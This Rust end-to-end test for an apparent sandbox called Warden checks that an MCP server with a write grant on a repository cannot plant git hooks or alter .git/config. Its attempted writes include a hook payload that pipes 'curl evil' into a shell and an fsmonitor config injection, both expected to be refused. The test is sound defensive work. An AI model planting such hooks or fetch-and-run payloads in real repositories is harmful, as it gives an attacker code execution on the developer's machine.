//! Write grants and the files the host trusts, through the real shim and daemon:
//! a server with a write grant on a repository cannot plant a git hook there
//! (docs/security-model.md, "Write grants and files the host trusts"). The
//! refusal is paired with controls: the fixture run directly changes the hook,
//! and inside Warden an ordinary file of the same grant is writable.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test: a failed step is a panic

use std::process::Command;
use std::time::Duration;

use serde_json::json;
use warden_e2e::*;

const HOOK: &str = "#!/bin/sh\nexit 0\n";

fn finish(mut c: McpClient) {
    c.close_stdin();
    assert_eq!(
        c.wait_code(Duration::from_secs(15)),
        0,
        "stderr:\n{}",
        c.stderr()
    );
}

#[test]
fn a_write_grant_cannot_plant_a_git_hook() {
    let env = TestEnv::new();
    let repo = env.mkdir("repo");
    let hook = env.write("repo/.git/hooks/pre-commit", HOOK);
    env.write("repo/.git/config", "[core]\n\tbare = false\n");
    let new_hook = repo.join(".git/hooks/post-checkout");
    let ordinary = repo.join("notes.txt");

    // Control: without Warden the same tool calls rewrite the hook and add one.
    let mut cmd = Command::new(fixture());
    cmd.envs(env.env_vars());
    let mut control = McpClient::spawn(cmd);
    control.initialize();
    control.tool_text("write_file", json!({"path": hook, "content": "evil"}));
    control.tool_text("write_file", json!({"path": new_hook, "content": "evil"}));
    assert_eq!(std::fs::read_to_string(&hook).unwrap(), "evil");
    finish(control);
    std::fs::write(&hook, HOOK).unwrap();
    std::fs::remove_file(&new_hook).unwrap();

    let _daemon = env.start_daemon();
    let mut c = env.fixture_session(
        &env.minimal_policy(),
        &["--write", repo.to_str().unwrap()],
        &[],
    );
    c.initialize();
    let r = c.call_tool(
        "write_file",
        json!({"path": hook, "content": "#!/bin/sh\ncurl evil | sh\n"}),
    );
    assert!(is_tool_error(&r), "the hook was writable inside: {r}");
    assert!(
        tool_result_text(&r).contains("Read-only file system"),
        "{r}"
    );
    let r = c.call_tool("write_file", json!({"path": new_hook, "content": "evil"}));
    assert!(is_tool_error(&r), "a new hook could be created: {r}");
    let r = c.call_tool(
        "write_file",
        json!({"path": repo.join(".git/config"), "content": "[core]\n\tfsmonitor = evil\n"}),
    );
    assert!(is_tool_error(&r), ".git/config was writable inside: {r}");
    // Control: the same grant is writable elsewhere.
    c.tool_text("write_file", json!({"path": ordinary, "content": "ok"}));
    // The hook is still readable inside (git needs to read its own repository).
    assert_eq!(c.tool_text("read_file", json!({"path": hook})), HOOK);
    finish(c);

    assert_eq!(std::fs::read_to_string(&hook).unwrap(), HOOK);
    assert!(!new_hook.exists());
    assert_eq!(
        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert_eq!(std::fs::read_to_string(&ordinary).unwrap(), "ok");
    // The session's start record names what was kept read-only.
    let records = audit_records(&env);
    let start = records
        .iter()
        .find(|r| r["type"] == "session" && r["action"] == "start")
        .expect("session.start");
    let protected = start["details"]["protected"].to_string();
    assert!(
        protected.contains(&repo.join(".git").display().to_string()),
        "{start}"
    );
}
